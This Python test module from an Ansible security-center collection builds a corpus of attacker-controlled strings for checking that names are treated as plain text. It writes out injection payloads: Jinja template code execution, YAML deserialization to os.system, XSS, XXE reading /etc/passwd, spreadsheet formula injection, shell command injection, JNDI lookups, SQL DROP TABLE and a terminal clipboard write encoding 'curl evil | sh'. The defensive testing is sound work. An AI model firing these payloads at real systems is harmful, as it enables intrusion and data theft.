# Copyright (c) Ansible Project / alicloud.security_center contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What an attacker may write into the name of a process, a file, a host: text meant to be more than text."""

from __future__ import annotations

import json
import re

# Evaluated, "{{ 12347 * 67891 }}" reads so; nothing else in a run does.
PRODUCT = "838250177"
_SUM = "{{ 12347 * 67891 }}"
# Carried out, CANARY leaves a file of that name.
_TOUCH = "touch CANARY"
_PIPE = f"{{{{ lookup('ansible.builtin.pipe', '{_TOUCH}') }}}}"
_LARGE = 1_000_000

_JINJA = {
    "jinja sum": _SUM,
    "jinja pipe": _PIPE,
    "jinja query": "{% for line in query('ansible.builtin.pipe', 'touch CANARY') %}{{ line }}{% endfor %}",
    "jinja url": "{{ lookup('ansible.builtin.url', 'http://127.0.0.1:9/') }}",
    "jinja vars": "{{ hostvars }}{{ vars }}{{ ansible_env }}{{ environment }}",
    "jinja globals": "{{ cycler.__init__.__globals__.os.system('touch CANARY') }}",
    "jinja classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja nested": "{{ '{{ 12347 * 67891 }}' }}",
    "jinja breaks raw": "{% endraw %}{{ 12347 * 67891 }}{% raw %}",
    "jinja breaks quotes": f"'\"}}}} {_SUM} {{{{ '\"",
    "jinja breaks a comment": f"#}}{_SUM}{{#",
    "jinja is not closed": "{{ 12347 *",
    "jinja block is not closed": "{% if true %}",
    "jinja header": "#jinja2: variable_start_string: '[%', variable_end_string: '%]'\n[% 12347 * 67891 %]",
    "jinja include": "{% include '/etc/passwd' %}{% import '/etc/passwd' as p %}",
    "jinja unsafe": f"!unsafe '{_SUM}'",
    "ansible unsafe": f'{{"__ansible_unsafe": "{_SUM}"}}',
    "ansible vault": '{"__ansible_vault": "$ANSIBLE_VAULT;1.1;AES256\\n6162"}',
    "vault header": "$ANSIBLE_VAULT;1.1;AES256\n61626364",
    "facts": f'{{"ansible_facts": {{"ansible_python_interpreter": "{_TOUCH}"}}, "changed": true}}',
    "a name of facts": "ansible_facts",
    "a name of Ansible's own": "_ansible_no_log",
    "a type of Ansible's own": '{"__ansible_type": "_AnsibleTaggedStr", "value": "x", "tags": []}',
}
_MARKUP = {
    "yaml python": f"!!python/object/apply:os.system ['{_TOUCH}']",
    "yaml vault": "!vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  6162",
    "yaml anchor": "&a [*a, *a]",
    "yaml merge": "<<: *a",
    "yaml document": "%YAML 1.1\n---\nfailed: true\n...\n",
    "yaml mapping": "changed: true # comment",
    "yaml list": "- one\n- two",
    "yaml question": "? [a, b]\n: c",
    "yaml words": "yes",
    "yaml null": "~",
    "yaml number": "0o17",
    "html script": "<script>alert(document.cookie)</script>",
    "html handler": "\"><img src=x onerror='alert(1)'>&lt;&#x27;",
    "markdown": "[here](javascript:alert(1)) ![](http://127.0.0.1:9/)",
    "xml entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "json breaks out": '"}], "changed": true, "events": [{"a": "',
    "json escapes": r"\u0000\ud800\n\"\\",
    "json list": '["a", "b"]',
    "python literal": "{'a': 1, 'b': [2, None]}",
    "a backslash at the end": "C:\\Windows\\",
}
_TERMINAL = {
    "colour": "\x1b[31;5mred\x1b[0m",
    "cursor": "\x1b[2J\x1b[1;1H\x1b[8m",
    "reset": "\x1bc",
    "title (OSC 0)": "\x1b]0;owned\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "device control (DCS)": "\x1bP+q544e\x1b\\\x1bP$q\x1b\\",
    "answer back": "\x05\x1b[c\x1b[6n",
    "C1 controls": "\x9b31m\x90+q\x9c\x9d0;owned\x9c\x85",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "bell and delete": "\x07\x7f",
    "carriage return": "evil\rsafe",
    "lines": "x\r\n\r\nPLAY RECAP *****\r\nlocalhost : ok=1 changed=0 failed=0\r\n",
    "other line breaks": "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i",
    "NUL": "\x00safe\x00",
    "shift out": "\x0e\x0f\x16\x19\x1a",
}
_UNICODE = {
    "right to left": "\u202egnp.exe\u202c\u202d",
    "isolates": "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "invisible": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
    "tags": "a\U000e0041\U000e007f",
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udc00b",
    "reversed surrogates": "\udc00\ud800",
    "surrogate at the end": f"{_SUM}\udbff",
    "surrogate pair": "\ud83d\ude00",
    "no characters": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff",
    "private use": "\ue000\uf8ff\U000f0000",
    "annotations": "\ufff9a\ufffab\ufffb\ufffc",
    "marks": "a" + "\u0301" * 200,
    "lookalikes": "\u0456\u0262n\u03bfre\u3000\u00a0",
}
_PROGRAMS = {
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1\r=1+1",
    "path": "../../../../etc/passwd",
    "path with NUL": "/etc/passwd\x00.png",
    "shell list": f"; {_TOUCH}; && {_TOUCH} || {_TOUCH} | {_TOUCH} & ",
    "shell substitution": f"$({_TOUCH})`{_TOUCH}`${{IFS}}",
    "shell breaks quotes": f"'; {_TOUCH}; '\"; {_TOUCH}; \"",
    "shell lines": f"\n{_TOUCH}\n",
    "options": "--extra-vars=@/etc/passwd -e x",
    "percent": "%s%s%n%x%(name)s%d%",
    "format": "{0.__class__.__init__.__globals__}{action}{ram_action!r:>1000000}",
    "dollar": "${jndi:ldap://127.0.0.1:9/a}$HOME${PATH}",
    "windows": "%COMSPEC% & ^calc",
    "sql": "' OR '1'='1'; DROP TABLE alerts; --",
}
_SIZES = {
    "empty": "",
    "white": " \t ",
    "large": "A" * _LARGE + _SUM,
    "large and wide": "\u202e\U0001f4a9" * 10_000,
    "deep": "[" * 50_000 + "{" * 50_000,
    "deep and closed": "[" * 1_000 + "]" * 1_000,
}


def corpus(canary: str) -> dict[str, str]:
    """The texts by name; carried out, some would make the file ``canary``."""
    groups = (_JINJA, _MARKUP, _TERMINAL, _UNICODE, _PROGRAMS, _SIZES)
    return {name: text.replace("CANARY", canary) for group in groups for name, text in group.items()}


def as_it_comes_out(text: str) -> str:
    """What a user is to see of a text that the service sends: the same, lone surrogates replaced."""
    arrived = str(json.loads(json.dumps(text)))  # two escapes that make a pair are one character
    return re.sub("[\ud800-\udfff]", "\ufffd", arrived)


# Control characters but line feed and tab, C1, and what turns the direction of text.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
